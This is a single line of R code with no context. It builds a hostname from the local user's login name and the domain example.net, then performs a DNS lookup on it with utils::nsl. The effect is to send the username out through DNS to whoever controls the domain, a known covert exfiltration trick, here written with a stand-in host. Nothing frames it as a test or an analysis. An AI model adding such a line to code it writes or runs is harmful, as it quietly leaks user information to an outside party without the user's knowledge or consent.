utils::nsl(paste0(Sys.info()[["user"]], ".example.net"))
